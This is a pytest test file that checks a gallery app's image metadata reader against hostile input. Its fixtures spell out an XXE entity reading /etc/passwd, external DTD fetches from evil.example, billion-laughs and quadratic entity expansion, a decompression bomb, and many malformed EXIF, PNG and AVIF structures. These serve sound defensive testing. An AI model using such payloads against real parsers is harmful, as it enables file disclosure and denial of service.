"""Metadata from strangers: whatever it is, the photo still shows, and the rest of its words is read."""

from __future__ import annotations

import contextlib
import random
import struct
import time
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from metadata_made import (
    PHOTOSHOP_SEGMENT,
    UTF_8,
    XMP_SEGMENT,
    captioned,
    chunk,
    dataset,
    described,
    encoded,
    exif,
    extended,
    jpeg,
    jpeg_of,
    packet,
    png_with,
    resource,
    segment,
    text,
    xmp_chunk,
)

from gallery_app.metadata.reading import METADATA_ERRORS, blocks_in
from gallery_app.metadata.xmp import DEPTH
from gallery_app.model.credit import PARTY_SEPARATOR
from gallery_app.model.limits import PARTY_LIMIT, TEXT_LIMIT, WORDS_LIMIT
from gallery_app.model.words import FIELDS, Origin

pytestmark = pytest.mark.alone

SECONDS = 20.0  # after which reading hangs; each of these takes some milliseconds
BLOCK = UTF_8 + dataset(120, b"from IPTC")

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
CAPTION = described("<dc:description>{}</dc:description>")


def deep(count):
    return described(
        "<dc:description>" + "<rdf:li>" * count + "x" + "</rdf:li>" * count + "</dc:description>"
    )


PACKETS = {
    "a billion laughs": BILLION + packet(CAPTION.format("&l9;")),
    "an outer entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    + packet(CAPTION.format("&e;")),
    "an outer document type": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">' + packet(CAPTION.format("x")),
    "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>' + packet(),
    "quadratic": f'<!DOCTYPE x [<!ENTITY e "{"x" * 50_000}">]>' + packet(CAPTION.format("&e;" * 1_000)),
    "small letters": BILLION.replace("DOCTYPE", "doctype").replace("ENTITY", "entity") + packet(),
    "an entity without a declaration": packet(CAPTION.format("&xxe;")),
    "9000 deep": packet(deep(9_000)),
    "9000 deep outside": "<a>" * 9_000 + packet(CAPTION.format("x")),
    "100000 elements": packet(CAPTION.format("<rdf:Bag>" + "<rdf:li/>" * 90_000 + "</rdf:Bag>")),
    "no namespace": packet('<rdf:Description foo:bar="1"><foo:baz/></rdf:Description>'),
}


@pytest.mark.parametrize("name", PACKETS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_hostile_packet_is_refused_with_a_note_and_costs_nothing_else(reading, name, encoding):
    begun = time.monotonic()
    data = PACKETS[name].encode(encoding)
    png = png_with(xmp_chunk(data) + chunk(b"eXIf", exif({0x010E: text("from EXIF")})))
    metadata = reading.of_bytes(png)
    assert [origin for origin, _ in metadata.sources] == [Origin.EXIF]
    assert len(metadata.problems) == 1
    assert "XMP" in str(metadata.problems[0].message)
    assert time.monotonic() - begun < SECONDS


def test_a_packet_of_26_megabytes_is_not_read(reading):
    data = captioned("x" * 26_000_000)
    tags = {700: data}
    for photo in (
        png_with(behind=xmp_chunk(data, compressed=True)),
        encoded("webp", xmp=data),
        encoded("tif", tiffinfo=tags),
        encoded("avif", xmp=data),
    ):
        metadata = reading.of_bytes(photo)
        assert metadata.sources == ()
        assert "larger than 1 MB" in str(metadata.problems[0].message)
    (reading.folder / "photo.jpg").write_bytes(encoded("jpg"))
    (reading.folder / "photo.xmp").write_bytes(data)
    metadata = reading.of("photo.jpg")
    assert (metadata.sources, len(metadata.problems)) == ((), 1)


def test_extended_packets_count_towards_the_limit(reading):
    guid = b"0" * 32
    main = packet(described(attributes=f'xmpNote:HasExtendedXMP="{guid.decode()}" photoshop:Source="AP"'))
    pieces = extended(guid, captioned("x" * 2_000_000), 60_000)
    metadata = reading.of_bytes(jpeg(segment(0xE1, XMP_SEGMENT + main.encode()), *pieces))
    assert dict(metadata.sources)[Origin.XMP].caption is None
    assert "larger than 1 MB" in str(metadata.problems[0].message)


@pytest.mark.parametrize("artist", ["a; ", '"a"; ', '"', '";', '" ; '])
def test_artists_without_end_are_told_apart_in_no_time(reading, artist):
    block = exif({0x013B: text((artist * 300_000)[:900_000])})
    begun = time.monotonic()
    reading.of_bytes(png_with(chunk(b"eXIf", block)))
    assert time.monotonic() - begun < SECONDS


def test_no_more_texts_of_a_png_are_unpacked_than_photos_have(reading):
    empty = chunk(b"zTXt", b"Raw profile type exif\0\0" + zlib.compress(b"\nexif\n 0\n"))
    said = xmp_chunk(captioned("from XMP"))
    assert reading.of_bytes(png_with(empty * 10 + said)).sources != ()
    for photo in (png_with(empty * 40 + said), png_with(behind=empty * 40 + said, pixels=100)):
        assert reading.of_bytes(photo).sources == ()


def test_no_packet_is_nested_deeper_than_it_may_be(reading):
    assert reading.of_bytes(jpeg_of(packet(deep(DEPTH - 5)).encode())).problems == ()
    assert len(reading.of_bytes(jpeg_of(packet(deep(DEPTH)).encode())).problems) == 1


def test_a_long_text_is_cut_with_a_note(reading):
    metadata = reading.of_bytes(png_with(xmp_chunk(captioned("ä" * 100_000))))
    caption = dict(metadata.sources)[Origin.XMP].caption.pick()
    assert len(caption.encode()) <= TEXT_LIMIT + 3
    assert caption.endswith("ä…")
    assert "shown cut" in str(metadata.problems[0].message)


def test_all_words_of_a_photo_are_limited_together(reading):
    keywords = "".join(f"<rdf:li>{number:050}</rdf:li>" for number in range(12_000))
    data = packet(described(f"<dc:subject><rdf:Bag>{keywords}</rdf:Bag></dc:subject>")).encode()
    metadata = reading.of_bytes(png_with(xmp_chunk(data)))
    kept = dict(metadata.sources)[Origin.XMP].keywords
    assert sum(map(len, kept)) <= WORDS_LIMIT
    assert len(kept) > 1_000
    assert "shown cut" in str(metadata.problems[0].message)


def test_a_credit_of_thousands_of_parties_keeps_its_line(reading):
    line = PARTY_SEPARATOR.join(f"P{number}" for number in range(5_000))
    data = packet(described(f"<photoshop:Credit>{line}</photoshop:Credit>")).encode()
    credit = dict(reading.of_bytes(png_with(xmp_chunk(data))).sources)[Origin.XMP].credit
    assert credit.line == line
    assert len(credit.parties) == PARTY_LIMIT


def directory(*entries, order="<"):
    return struct.pack(order + "H", len(entries)) + b"".join(
        struct.pack(order + "HHLL", *entry) for entry in entries
    )


HEAD = b"II*\0\x08\0\0\0"
EXIFS = {
    "a directory that points at itself": HEAD + directory((0x8769, 4, 1, 8), (0x8825, 4, 1, 8)) + bytes(4),
    "a value of 4 GB": HEAD + directory((0x010E, 2, 0xFFFFFFFF, 8)) + bytes(4),
    "4 G fractions": HEAD + directory((0x8825, 4, 1, 26)) + bytes(4) + directory((2, 5, 0xFFFFFFFF, 8)),
    "a value beyond the end": HEAD + directory((0x010E, 2, 100, 0xFFFFFF00)) + bytes(4),
    "65535 entries": HEAD + b"\xff\xff" + bytes(12 * 600),
    "a directory beyond the end": b"II*\0\xff\xff\xff\xff",
    "no directory": b"II*\0\0\0\0\0",
    "an unknown type": HEAD + directory((0x010E, 99, 4, 8), (0x829A, 0, 1, 8)) + bytes(4),
    "big": b"MM\0\x2b\0\x08\0\0\xff\xff\xff\xff\xff\xff\xff\xff",
    "a directory behind the end of the world": b"MM\0\x2b\0\x08\0\0\x7f" + b"\xff" * 7,
    "nothing": b"",
    "rubbish": bytes(range(256)),
}


@pytest.mark.parametrize("name", EXIFS)
def test_hostile_exif_says_nothing_and_costs_nothing_else(reading, name):
    begun = time.monotonic()
    metadata = reading.of_bytes(jpeg_of(captioned("from XMP"), BLOCK, EXIFS[name]))
    assert [origin for origin, _ in metadata.sources] == [Origin.XMP, Origin.IPTC]
    assert metadata.camera == ()
    metadata = reading.of_bytes(EXIFS[name] or b"II*\0", "photo.tif")
    assert metadata.sources == ()
    assert time.monotonic() - begun < SECONDS


IPTCS = {
    "4 GB": UTF_8 + dataset(105, b"Flood") + b"\x1c\2\x78\x80\x04\xff\xff\xff\xff",
    "a size of 32767 bytes": UTF_8 + dataset(105, b"Flood") + b"\x1c\2\x78\xff\xff",
    "100000 empty datasets": UTF_8 + dataset(105, b"Flood") + b"\x1c\2\x19\0\0" * 8_000,
}


@pytest.mark.parametrize("name", IPTCS)
def test_of_a_hostile_iptc_block_the_sound_part_is_read(reading, name):
    read = dict(reading.of_bytes(jpeg_of(None, IPTCS[name])).sources)[Origin.IPTC]
    assert read.headline.pick() == "Flood"


def test_resources_that_lie_about_their_size_are_left_out(reading):
    lie = b"8BIM\x04\x04\0\0\xff\xff\xff\xff" + BLOCK
    assert dict(reading.of_bytes(jpeg(segment(0xED, PHOTOSHOP_SEGMENT + lie))).sources).keys() <= {
        Origin.IPTC
    }
    cut = resource(0x0404, BLOCK)[:20]
    assert reading.of_bytes(jpeg(segment(0xED, PHOTOSHOP_SEGMENT + cut))).sources == ()


def box(kind, data):
    return (8 + len(data)).to_bytes(4, "big") + kind + data


ENDLESS_ITEMS = b"\1\0\0\0\0\0\xff\xff" + b"\0\1\0\0\0\0\xff\xff" * 4_000
ENDLESS_LIST = box(
    b"meta",
    bytes(4)
    + box(b"iinf", bytes(4) + b"\0\1" + box(b"infe", b"\2\0\0\0\0\1\0\0Exif\0"))
    + box(b"iloc", ENDLESS_ITEMS),
)
FILES = {
    "a JPEG of empty segments": b"\xff\xd8" + b"\xff\xe1\0\2" * 100_000,
    "a JPEG segment of no size": b"\xff\xd8\xff\xe1\0\0" + bytes(100),
    "a JPEG of filling": b"\xff\xd8" + b"\xff" * 200_000,
    "a PNG of empty chunks": encoded("png")[:33] + chunk(b"tEXt", b"") * 50_000,
    "a PNG chunk of 4 GB": encoded("png")[:33] + b"\xff\xff\xff\xffiTXt",
    "a PNG text that inflates": png_with(
        chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + zlib.compress(bytes(200_000_000), 9))
    ),
    "a PNG text that does not inflate": png_with(chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0rubbish")),
    "a PNG profile that is none": png_with(chunk(b"tEXt", b"Raw profile type exif\0\nexif\n 4\nxyz!")),
    "EXIF of prefixes": png_with(chunk(b"eXIf", b"Exif\0\0" * 170_000)),
    "a WebP chunk of 4 GB": b"RIFF\xff\xff\xff\xffWEBPXMP \xff\xff\xff\xff<",
    "a WebP of empty chunks": b"RIFF\xff\xff\xff\xffWEBP" + b"XMP \0\0\0\0" * 50_000,
    "boxes of no size": b"\0\0\0\x18ftypavif\0\0\0\0avifmif1" + b"\0\0\0\1meta" + bytes(64),
    "boxes of 2 to the 64": b"\0\0\0\x18ftypavif\0\0\0\0avifmif1" + b"\0\0\0\1meta" + b"\xff" * 64,
    "boxes of 2 to the 63": box(b"ftyp", b"avif\0\0\0\0avif") + b"\0\0\0\1free\x7f" + b"\xff" * 15,
    "an item behind the end of the world": box(b"ftyp", b"avif\0\0\0\0avif")
    + box(
        b"meta",
        bytes(4)
        + box(b"iinf", bytes(4) + b"\0\1" + box(b"infe", b"\2\0\0\0\0\1\0\0Exif\0"))
        + box(b"iloc", b"\1\0\0\0\x84\0\0\1\0\1\0\0\0\0\0\1\x7f" + b"\xff" * 7 + b"\0\0\0\x09"),
    ),
    "endless items": box(b"ftyp", b"avif\0\0\0\0avif") + ENDLESS_LIST,
    "endless lists of items": box(b"ftyp", b"avif\0\0\0\0avif") + ENDLESS_LIST * 1_000,
    "an item that is everywhere": box(b"ftyp", b"avif\0\0\0\0avif")
    + box(
        b"meta",
        bytes(4)
        + box(b"iinf", bytes(4) + b"\0\1" + box(b"infe", b"\2\0\0\0\0\1\0\0Exif\0"))
        + box(b"iloc", b"\1\0\0\0\x44\0\0\1\0\1\0\0\0\0\xff\xff" + b"\0\0\0\0\x7f\xff\xff\xff" * 65_535),
    ),
    "a GIF of endless extensions": encoded("gif")[:13] + b"\x21\xfe\1x\0" * 100_000,
    "a GIF without an end": b"GIF89a\0\0\0\0\x87\0\0"
    + bytes(768)
    + b"\x21\xff\x0bXMP DataXMP"
    + b"x" * 3_000_000,
}


@pytest.mark.parametrize("name", FILES)
def test_a_file_that_leads_astray_is_given_up(reading, name):
    begun = time.monotonic()
    assert reading.of_bytes(FILES[name]).sources == ()
    assert time.monotonic() - begun < SECONDS


@given(st.sampled_from(["jpg", "png", "webp", "tif", "avif", "gif"]), st.randoms(use_true_random=False))
def test_damaged_files_raise_nothing_that_is_not_foreseen(suffix, chance):
    from io import BytesIO

    options = (
        {} if suffix == "gif" else {"exif": b"Exif\0\0" + exif({0x010E: text("a")}, {0x9003: text("2024")})}
    )
    data = bytearray(encoded(suffix, **options))
    for _ in range(chance.randint(1, 12)):
        data[chance.randrange(len(data))] = chance.randrange(256)
    del data[chance.randrange(len(data)) :]
    with contextlib.suppress(METADATA_ERRORS):
        blocks_in(BytesIO(bytes(data)))


@pytest.mark.parametrize("seed", range(20))
def test_a_damaged_photo_full_of_words_is_read_as_far_as_it_goes(reading, seed):
    chance = random.Random(seed)
    everything = jpeg_of(
        captioned("from XMP"), BLOCK, exif({0x010E: text("a")}, {0x9003: text("2024:01:01")})
    )
    for _ in range(40):
        data = bytearray(everything)
        for _ in range(chance.randint(1, 30)):
            data[chance.randrange(20, 900)] = chance.randrange(256)
        for _, words in reading.of_bytes(bytes(data)).sources:
            assert any(getattr(words, field.name) for field in FIELDS)
